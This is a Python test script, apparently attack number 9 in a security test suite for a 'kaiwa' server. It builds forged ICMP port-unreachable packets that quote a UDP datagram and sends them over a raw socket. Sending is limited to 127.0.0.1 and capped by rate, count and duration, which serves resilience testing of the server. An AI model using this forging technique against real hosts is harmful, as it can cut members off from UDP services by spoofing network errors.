"""Forges ICMP port-unreachable errors to a kaiwa server on 127.0.0.1 (attack 9).

Each packet quotes a UDP datagram from the server (127.0.0.1:SERVER_PORT) to a member
(127.0.0.1:MEMBER_PORT), as the member's kernel would if the member's port were closed. Needs
root (a raw socket). Sends only to 127.0.0.1, at RATE per second, COUNT at most, for SECONDS.

usage: python3 icmp_forge.py SERVER_PORT MEMBER_PORT RATE SECONDS COUNT
"""

import socket
import struct
import sys
import time

LOOPBACK = "127.0.0.1"
ICMP_DEST_UNREACH = 3
ICMP_PORT_UNREACH = 3
IPPROTO_UDP = 17
QUOTED_PAYLOAD = b"kaiwa"


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(server_port: int, member_port: int) -> bytes:
    addr = socket.inet_aton(LOOPBACK)
    udp_len = 8 + len(QUOTED_PAYLOAD)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, IPPROTO_UDP, 0, addr, addr)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    udp = struct.pack("!HHHH", server_port, member_port, udp_len, 0) + QUOTED_PAYLOAD
    body = struct.pack("!BBHI", ICMP_DEST_UNREACH, ICMP_PORT_UNREACH, 0, 0) + ip + udp
    return body[:2] + struct.pack("!H", checksum(body)) + body[4:]


def main() -> None:
    server_port, member_port, rate, seconds, count = (float(a) for a in sys.argv[1:6])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    data = packet(int(server_port), int(member_port))
    start = time.monotonic()
    sent = 0
    while sent < count and time.monotonic() - start < seconds:
        raw.sendto(data, (LOOPBACK, 0))
        sent += 1
        time.sleep(max(0.0, start + sent / rate - time.monotonic()))
    print(sent, len(data))


if __name__ == "__main__":
    main()
